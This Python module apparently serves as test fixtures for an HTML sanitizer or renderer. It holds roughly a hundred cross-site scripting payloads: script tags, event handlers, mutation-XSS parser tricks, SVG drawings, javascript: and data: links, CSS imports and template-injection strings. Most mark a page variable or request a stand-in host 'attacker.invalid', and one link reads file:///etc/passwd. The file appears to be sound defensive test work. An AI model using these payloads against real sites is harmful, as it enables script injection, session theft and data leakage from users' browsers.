"""Texts that run script in a page, or call another host, where they are taken for HTML.

Each tells its number: in ``window.__pwned`` of the page, or in the path that it asks a host for.
"""

from __future__ import annotations

HOST = "http://attacker.invalid"

_PATTERNS = [
    # Scripts and event handlers
    "<script>RUN</script>",
    "<img src=x onerror=RUN>",
    "<svg onload=RUN>",
    "<body onload=RUN>",
    "<input autofocus onfocus=RUN>",
    "<details open ontoggle=RUN>x</details>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<marquee onstart=RUN>x</marquee>",
    "<form action='javascript:RUN'><button autofocus onfocus=RUN>x</button></form>",
    "<select autofocus onfocus=RUN><option>x</select>",
    "<div contenteditable autofocus tabindex=0 onfocus=RUN>x</div>",
    # Written oddly
    "<IMG SRC=x OnErRoR='RUN'>",
    "<img/src=x/onerror=RUN>",
    "<img src=x oneonerrorrror=RUN onerror=RUN>",
    "<img src='x\x00' onerror=RUN>",
    "<scr\x00ipt>RUN</scr\x00ipt><img src=x onerror\x0b=RUN>",
    "\u202e<img src=x onerror=RUN>\u202c",
    '\u2066\u202e"><svg onload=RUN>\u2069',
    "\\u003cimg src=x onerror=RUN\\u003e",
    "&lt;img src=x onerror=RUN&gt;",
    "%3Cimg%20src%3Dx%20onerror%3DRUN%3E",
    "+ADw-script+AD4-RUN+ADw-/script+AD4-",
    # Out of whatever is around it
    "</textarea><img src=x onerror=RUN>",
    "</title><svg onload=RUN>",
    "</style><img src=x onerror=RUN>",
    "</script><script>RUN</script><img src=x onerror=RUN>",
    '"><img src=x onerror=RUN>',
    "' autofocus onfocus='RUN' onmouseover='RUN' x='",
    '" style="background:url(HOST)" onmouseover="RUN" x="',
    "]]><![CDATA[<img src=x onerror=RUN>]]>",
    "<!--><img src=x onerror=RUN>-->",
    "*/</style><svg onload=RUN>/*",
    # What parsers and sanitizers see differently
    "<svg><script>RUN</script></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=RUN>">',
    '<noscript><p title="</noscript><img src=x onerror=RUN>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
    "<template><img src=x onerror=RUN></template><xmp><img src=x onerror=RUN></xmp>",
    # SVG and MathML
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    "<svg><set onbegin=RUN attributeName=x to=y>",
    "<svg><image href='HOST'/></svg>",
    "<svg><foreignObject><iframe srcdoc='&lt;script&gt;RUN&lt;/script&gt;'></iframe></foreignObject></svg>",
    "<math href='javascript:RUN'><maction actiontype='statusline#HOST' onclick=RUN>x</maction></math>",
    # Addresses
    '<iframe srcdoc="<script>RUN</script>"></iframe>',
    "<iframe src='javascript:RUN'></iframe>",
    "<object data='javascript:RUN'></object><embed src='javascript:RUN'>",
    "<a href='javascript:RUN'>x</a> javascript:RUN",
    "<iframe src='data:text/html,<script>RUN</script>'></iframe> data:text/html,<script>RUN</script>",
    "<meta http-equiv=refresh content='0;url=javascript:RUN'>",
    "<base href='HOST/'><img src='HOST'>",
    # Styles
    "<style>@import url(HOST);</style>",
    "<div style='background:url(HOST)'>x</div>",
    "<link rel=stylesheet href=HOST>",
    "url(HOST);background:url(HOST);--x:expression(RUN)",
    # Templates, Markdown, TeX, prototypes
    "{{constructor.constructor('RUN')()}} <%= RUN %> #{RUN} [[RUN]] `${RUN}`",
    "[x](javascript:RUN) ![x](HOST) <img src=x onerror=RUN>",
    "$\\href{javascript:RUN}{x}$ \\(\\unicode[onload=RUN]{x}\\) $x",
    (
        '{"__proto__": {"innerHTML": "<img src=x onerror=RUN>"}, '
        '"dangerouslySetInnerHTML": {"__html": "<svg onload=RUN>"}}'
    ),
    "__proto__ RUN",
]

ATTACKS = [
    pattern.replace("RUN", f"(top.__pwned??=[]).push({number})").replace("HOST", f"{HOST}/{number}")
    for number, pattern in enumerate(_PATTERNS)
]

_DRAWINGS = [
    "<script>RUN</script>",
    "<script href='HOST'/><script xlink:href='data:text/javascript,RUN'/>",
    "<animate onbegin='RUN' attributeName='x' dur='1s'/>",
    "<set onbegin='RUN' attributeName='x' to='y'/>",
    "<image href='x' onerror='RUN' width='1' height='1'/>",
    "<image href='HOST' width='9' height='9'/>",
    "<use href='HOST#a'/><use href='data:image/svg+xml,&lt;svg/>#a'/>",
    "<style>@import url(HOST); rect { background: url(HOST); fill: url(HOST#a) }</style>",
    "<style>@font-face { font-family: f; src: url(HOST) } text { font-family: f }</style><text>x</text>",
    (
        "<foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='x' "
        "onerror='RUN'/></foreignObject>"
    ),
    (
        "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' "
        "srcdoc='&lt;script>RUN&lt;/script>' src='HOST'/></foreignObject>"
    ),
    "<a href='javascript:RUN'><rect width='40' height='30' fill='lime'/></a>",
    "<g onload='RUN' onclick='RUN' onmouseover='RUN' onfocus='RUN' tabindex='0'/>",
]

DRAWINGS = [
    (
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' "
        "width='40' height='30' onload='RUN'><rect width='40' height='30' fill='lime'/>"
        + inside
        + "</svg>"
    )
    .replace("RUN", f"(top.__pwned??=[]).push({number})")
    .replace("HOST", f"{HOST}/{number}")
    for number, inside in enumerate(_DRAWINGS)
]
"""SVG files that do the same where they are put into a page, all of them green."""

LINKS = [
    address.replace("RUN", "(top.__pwned??=[]).push(0)").replace("HOST", HOST)
    for address in (
        "javascript:RUN",
        "JaVaScRiPt:RUN",
        " javascript:RUN",
        "java\nscript:RUN",
        "\x01javascript:RUN",
        "javascript://example.org/%0aRUN",
        "data:text/html,<script>RUN</script>",
        "vbscript:RUN",
        "blob:https://example.org/1",
        "file:///etc/passwd",
        "//attacker.invalid/x",
        "http:javascript:RUN",
        "https://example.org/' onmouseover='RUN",
    )
]
"""Addresses that nobody should be able to follow from an item."""


def as_shown(text: str) -> str:
    """Return a text as it is shown: a NUL, which is no text, as the sign for that."""
    return text.replace("\0", "\ufffd")


def in_lines(text: str) -> str:
    """Return a text as it is shown where it may have lines: a vertical tab begins a line."""
    return as_shown(text).replace("\v", "\n")
